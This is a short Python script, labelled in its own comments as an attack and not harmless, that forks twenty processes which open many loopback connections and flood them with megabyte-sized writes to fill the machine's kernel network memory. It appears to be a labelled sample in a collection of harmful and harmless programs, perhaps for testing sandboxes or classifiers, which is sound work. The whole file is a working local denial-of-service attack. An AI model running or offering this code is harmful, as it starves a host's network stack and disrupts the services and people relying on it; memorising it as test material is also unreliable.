# attack: the memory that the machine has for its network is filled by connections to itself
# harmless: no
import os
import socket
import time

listening = socket.socket()
listening.bind(("127.0.0.1", 0))
listening.listen(4096)
for _ in range(20):
    if os.fork() == 0:
        break
held = []
while len(held) < 200:
    try:
        held.append(socket.create_connection(listening.getsockname(), timeout=1))
        held[-1].setblocking(False)
        for _ in range(100):
            held[-1].send(bytes(1_000_000))
    except BlockingIOError:
        pass
    except OSError as error:
        print(len(held), error, flush=True)
        break
time.sleep(60)
